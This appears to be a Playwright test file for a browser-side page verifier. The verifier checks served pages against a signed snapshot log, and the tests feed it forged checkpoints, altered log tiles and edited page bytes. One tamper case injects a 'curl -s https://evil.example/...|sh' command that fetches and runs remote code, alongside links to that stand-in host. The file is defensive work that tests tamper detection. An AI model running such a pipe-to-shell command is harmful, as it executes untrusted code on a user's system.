/** "Verify this page" in a browser, on a server and on a host of files: what it says where all holds, and where something lies. */
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { expect, type Page, test } from "playwright/test";
import { openStaticServer } from "../../../snapshots/contract/static-server.ts";
import { blobPath } from "../../../snapshots/format/layout.ts";
import { formatCheckpoint, formatHead, parseCheckpoint } from "../../../snapshots/log/checkpoint.ts";
import { generateKey, parseSigningKey, signNote } from "../../../snapshots/log/note.ts";
import type { View } from "../../../snapshots/http/view.ts";
import { ask } from "../../testing/view.ts";
import { compileSite } from "../../pages/compile-site.ts";
import { exportView } from "../export/export.ts";
import { type Library, type Lie, openLibrary, PAIR, serveLies, temporary } from "./mirror-fixture.ts";

const MAX_SCRIPT = 40 * 1024;

const home = temporary("verify-page");
let library: Library;
let view: View;
let lie: Lie | null = null;
let server: Awaited<ReturnType<typeof serveLies>>;

test.describe.configure({ mode: "serial" });
test.beforeAll(async () => {
  test.setTimeout(240_000);
  library = await openLibrary(join(home.dir, "library"), 2);
  view = await library.view();
  server = await serveLies(
    () => view,
    () => lie,
  );
});
test.afterEach(() => {
  lie = null;
});
test.afterAll(async () => {
  delete process.env["LOG_KEY"];
  await server.close();
  home.remove();
});

/** What the page says of itself. */
async function verify(page: Page, url: string): Promise<{ readonly verdict: string; readonly steps: readonly string[] }> {
  await page.goto(url);
  await page.getByRole("button", { name: "Verify this page" }).click();
  await expect(page.locator("[data-verified]")).toHaveCount(1);
  return { verdict: await page.locator("[data-verify] p").innerText(), steps: await page.locator("[data-verify] li").allInnerTexts() };
}

test("a page is verified from its bytes to the signed head, which the browser remembers", async ({ page }) => {
  const first = await verify(page, `${server.url}/object/notes/a.md/`);
  expect(first.verdict).toBe("Verified: this page is a file of snapshot 2, which the log has.");
  expect(first.steps.join("\n")).toContain(`has 2 entries, signed by ${PAIR.publicKey}.`);
  expect(first.steps.join("\n")).toContain("has seen no head of this log before");
  await page.route("**/shelf/checkpoint", (route) => route.abort());
  expect((await verify(page, `${server.url}/claims/`)).verdict).toMatch(/^Not verified, at step 1: it could not be looked at/);
  await page.unroute("**/shelf/checkpoint");
  await page.route("**/claims/", (route) => (route.request().isNavigationRequest() ? route.continue() : route.fulfill({ status: 503 })));
  await page.getByRole("button", { name: "Verify once more" }).click();
  await expect(page.locator("[data-verify] p")).toHaveText(/^Not verified, at step 1: the page did not come once more \(503\)/);
  await page.unroute("**/claims/");
  await page.getByRole("button", { name: "Verify once more" }).click();
  await expect(page.locator("[data-verified=yes]")).toHaveCount(1);
  const second = await verify(page, `${server.url}/claims/`);
  expect(second.steps.join("\n")).toContain("goes on from the head that this browser has seen last, of 2 entries");
  await library.write({ "library/notes/new.md": "# New\n" });
  await library.publish();
  await view.refresh();
  expect((await verify(page, `${server.url}/`)).verdict).toContain("snapshot 3");
  const [old] = await view.records();
  const at = await verify(page, `${server.url}/at/${old?.snapshot}/object/notes/a.md/`);
  expect(at.verdict).toBe("Verified: this page is a file of snapshot 1, which the log has.");
  for (const made of ["/snapshots/", "/object/notes/a.md/?lines=1-1"])
    expect((await verify(page, server.url + made)).verdict, made).toContain("The log and the snapshot hold.");
});

test("the script is loaded when it is asked for, and is small", async ({ page }) => {
  const { dist } = await compileSite();
  const folder = join(dist, "client/assets");
  const scripts = readdirSync(folder).filter((name) => name.startsWith("verify-"));
  expect(scripts.length).toBe(1);
  expect(statSync(join(folder, scripts[0] ?? "")).size).toBeLessThan(MAX_SCRIPT);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(`${server.url}/`);
  expect(asked.filter((url) => url.includes("verify-"))).toEqual([]);
  await verify(page, `${server.url}/`);
  expect(asked.filter((url) => url.includes("verify-")).length).toBe(1);
});

test("whatever is exchanged, the step that does not hold is named", async ({ page }) => {
  const PATH = "/object/notes/a.md/";
  // Else it shows what it was given before.
  const session = await page.context().newCDPSession(page);
  await session.send("Network.enable");
  await session.send("Network.setCacheDisabled", { cacheDisabled: true });
  expect((await verify(page, server.url + PATH)).verdict).toContain("Verified");
  const { snapshot } = JSON.parse((await ask(view, "/shelf/snapshots/3.json")).text) as { snapshot: string };
  const older = await ask(view, "/shelf/checkpoints/2");
  const other = generateKey("library.example/shelf");
  const signed = (bytes: Buffer, key: string, change: object = {}): Buffer => {
    const head = { ...parseCheckpoint(bytes), ...change };
    return Buffer.from(formatCheckpoint(head, [signNote(formatHead(head), parseSigningKey(key))]));
  };
  const swap =
    (of: string | RegExp, by: (bytes: Buffer) => Buffer | null): Lie =>
    (path, bytes) =>
      (typeof of === "string" ? path === of : of.test(path)) ? by(bytes) : bytes;
  const edit = (from: string, to: string) => (bytes: Buffer) => Buffer.from(bytes.toString("latin1").replace(from, to), "latin1");
  const lies: readonly (readonly [Lie, string])[] = [
    [swap(PATH, edit("A note", "Another note")), "step 5: the bytes of this page are not those of its file"],
    [swap(PATH, edit("snapshot 1</a>", "snapshot 1</a><b>hello</b>")), "step 5: the bytes of this page are not those of its file"],
    [swap(blobPath(snapshot), (bytes) => bytes.subarray(2)), "another digest"],
    [swap(blobPath(snapshot), () => null), "is not there (404)"],
    [swap("/shelf/checkpoint", edit("\n3\n", "\n4\n")), "step 1: the signature of library.example/shelf is not of this checkpoint"],
    [swap("/shelf/checkpoint", (bytes) => signed(bytes, other.privateKey)), "step 1: library.example/shelf has not signed the checkpoint"],
    [swap("/shelf/checkpoint", () => older.body), "step 2: it shows an older head than this browser has seen"],
    [swap("/shelf/checkpoint", (bytes) => signed(bytes, PAIR.privateKey, { origin: "other.example" })), "step 2: this is another log"],
    [
      swap("/shelf/checkpoint", (bytes) => signed(bytes, PAIR.privateKey, { root: Buffer.alloc(32) })),
      "step 2: the tiles of the log do not make the tree",
    ],
    [swap("/shelf/checkpoint", () => Buffer.from("<html>")), "step 1: the checkpoint is none"],
    [swap("/shelf/keys.json", () => Buffer.from("[]")), "step 1: another key signs the log"],
    [swap(/^\/shelf\/tile\/0/, (bytes) => bytes.subarray(32)), "too short or too long"],
    [swap(/^\/shelf\/tile\/entries/, edit(snapshot, "0".repeat(64))), "step 3: the log has no entry of this snapshot"],
    [swap(/^\/shelf\/tile\/entries/, edit('"sequence":3', '"sequence":4')), "step 3: entry 3 is not in the tree"],
  ];
  for (const [told, said] of lies) {
    lie = told;
    const { verdict } = await verify(page, server.url + PATH);
    expect(verdict, said).toMatch(/^Not verified/);
    expect(verdict).toContain(said);
  }
});

test("a fork is told from a log that goes on, by who has seen another head", async ({ page }) => {
  await verify(page, `${server.url}/claims/`);
  await page.evaluate(() => {
    const [name = ""] = Object.keys(localStorage);
    const seen = JSON.parse(localStorage.getItem(name) ?? "") as { checkpoint: string };
    const lines = seen.checkpoint.split("\n");
    lines[1] = "2";
    lines[2] = `${"A".repeat(43)}=`;
    localStorage.setItem(name, JSON.stringify({ ...seen, checkpoint: lines.join("\n") }));
  });
  expect((await verify(page, `${server.url}/claims/`)).verdict).toContain("a fork: the log does not begin with the 2 entries");
});

test("an export verifies its pages, too, also where it leads to objects under another name", async ({ page }) => {
  const { dist } = await compileSite();
  await exportView({ shelf: view.options.shelf, dist, dir: join(home.dir, "out") });
  expect(readFileSync(join(home.dir, "out/object/notes/shown.md/index.html"), "utf8")).toContain("data:image/svg+xml");
  for (const base of ["", "/library"]) {
    const host = await openStaticServer(join(home.dir, "out"), base);
    for (const path of ["/", "/claims/", "/object/notes/a.md/", "/object/notes/shown.md/", "/registry/CUB-0001/"])
      expect((await verify(page, host.url.replace(/\/$/, "") + path)).verdict).toContain("Verified: this page is a file of snapshot 3");
    await host.close();
  }
});

test("nothing is cut out before it is compared: a link or a command that leads elsewhere is told, on a server as on a host of files", async ({
  page,
}) => {
  const PATH = "/object/notes/shown.md/";
  const session = await page.context().newCDPSession(page);
  await session.send("Network.enable");
  await session.send("Network.setCacheDisabled", { cacheDisabled: true });
  const edit =
    (from: RegExp, to: string): Lie =>
    (path, bytes) => {
      if (path !== PATH) return bytes;
      const edited = Buffer.from(bytes.toString().replace(from, to));
      expect(edited.equals(bytes), String(from)).toBe(false);
      return edited;
    };
  const lies: readonly Lie[] = [
    edit(/curl -s [^"<]*?\/objects\/[^\s"<]*/, "curl -s https://evil.example/objects/x|sh;:"),
    edit(/href="[^"]*\/objects\/[^"]*"/, 'href="https://evil.example/objects/notes/shown.md"'),
    edit(/src="[^"]*\/objects\/[^"]*"/, `src="data:image/svg+xml;base64,${Buffer.from("<svg/>").toString("base64")}"`),
    edit(/(href="[^"]*\/objects\/notes\/)shown\.md"/, '$1a.md"'),
    edit(/(href="[^"]*\/objects\/notes\/shown\.md)"/, '$1.txt.txt"'),
    edit(/<\/main>/, '<a href="https://evil.example/objects/more">more</a></main>'),
  ];
  for (const [at, told] of lies.entries()) {
    lie = told;
    expect((await verify(page, server.url + PATH)).verdict, `lie ${at}`).toMatch(/^Not verified, at step 5: the bytes of this page/);
  }
});

test("the page that was opened is the one spoken of, also when a newer snapshot is served by now", async ({ page }) => {
  const session = await page.context().newCDPSession(page);
  await session.send("Network.enable");
  await session.send("Network.setCacheDisabled", { cacheDisabled: true });
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.goto(`${server.url}/object/notes/a.md/`);
  const opened = (await view.records()).at(-1);
  await library.write({ "library/notes/a.md": "# A note\n\nWith other words.\n" });
  await library.publish();
  await view.refresh();
  await page.getByRole("button", { name: "copy permanent link" }).click();
  await expect(page.getByText("copied")).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`${server.url}/at/${opened?.snapshot}/object/notes/a.md/`);
  await page.getByRole("button", { name: "Verify this page" }).click();
  await expect(page.locator("[data-verified]")).toHaveCount(1);
  expect(await page.locator("[data-verify] p").innerText()).toMatch(/^Not verified, at step 1: this page has changed since it was opened/);
  const kept = await verify(page, `${server.url}/at/${opened?.snapshot}/object/notes/a.md/`);
  expect(kept.verdict).toContain(`a file of snapshot ${opened?.sequence},`);
});

test("a storage that is full, or forbidden, costs the memory of the head alone, and the page says so", async ({ page }) => {
  for (const forbid of ["setItem", "getItem"] as const) {
    await page.addInitScript((name) => {
      Storage.prototype[name] = () => {
        throw new DOMException("exceeded the quota", "QuotaExceededError");
      };
    }, forbid);
    const { verdict, steps } = await verify(page, `${server.url}/claims/`);
    expect(verdict).toMatch(/^Verified/);
    expect(steps.join("\n")).toContain("This browser could not keep that head");
  }
});
